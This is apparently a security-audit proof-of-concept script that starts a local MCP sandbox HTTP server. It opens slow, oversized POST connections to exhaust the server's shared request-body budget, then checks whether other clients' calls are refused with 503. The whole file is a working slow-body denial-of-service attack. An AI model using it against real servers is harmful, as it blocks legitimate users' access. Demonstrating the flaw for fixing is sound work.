# F4 variant: the victim sends write_file of 300 KB. serve --http: the serve-wide request-body budget (64 MiB, each body counted 4x past 64 KiB) is first come: one token
# client keeps 5 POSTs announcing 4 MB bodies open, sending a few bytes a second (within the 4 MiB-in-30 s body
# deadline it re-opens them); every other client's POST (its tools/call, even initialize) gets 503.
import sys, os, json, time, subprocess, socket, threading
sys.path.insert(0, "/work/notes/atk34")
PORT=8941; os.environ["PORT"]=str(PORT); os.environ["TOK"]="atk34-token-0123456789abcdef0123"
import mcp
X="/tmp/atk34x"; N=int(sys.argv[1]) if len(sys.argv)>1 else 5; DUR=int(sys.argv[2]) if len(sys.argv)>2 else 70
env=dict(os.environ, HOME=X+"/ur/home")
srv=subprocess.Popen(["/tmp/atk34/mcpsandbox","serve","--policy",X+"/ur/pol30.toml","--http","127.0.0.1:%d"%PORT,"--token-file",X+"/tok"],stderr=open(X+"/f4.log","wb"),env=env)
time.sleep(1.5)
stop=False
def hog(i, sid):
    while not stop:
        s=socket.socket(); s.connect(("127.0.0.1",PORT))
        s.sendall(b"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nAuthorization: Bearer %s\r\nMcp-Session-Id: %s\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: 4000000\r\n\r\n{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"x\",\"arguments\":{\"a\":\""%(PORT,mcp.TOKEN.encode(),sid.encode()))
        t=time.time()
        try:
            while not stop and time.time()-t<25: s.sendall(b"a"*64); time.sleep(1)
        except Exception: pass
        s.close()
try:
    ss=[mcp.Sess() for _ in range(N)]
    v=mcp.Sess()
    for i in range(N): threading.Thread(target=hog,args=(i,ss[i].sid),daemon=True).start()
    time.sleep(2); T0=time.time(); ok=bad=0
    while time.time()-T0<DUR:
        t=time.time()
        try: st,r=v.call("write_file",{"path":"v.txt","content":"v"*300000},timeout=40); r2=mcp.res(r)
        except Exception as e: st,r2=0,repr(e)
        good= st==200 and isinstance(r2,dict) and not (isinstance(r2,list))
        ok+=good; bad+=not good
        print("t=%3.0fs victim HTTP %s %s"%(time.time()-T0,st,"ran" if good else str(r2)[:160]),flush=True); time.sleep(3)
    try: print("a new client's initialize:", mcp.Sess().sid)
    except Exception as e: print("a new client's initialize failed:", e)
    print("victim: %d ran, %d refused"%(ok,bad))
finally:
    stop=True; time.sleep(1); srv.terminate(); srv.wait()
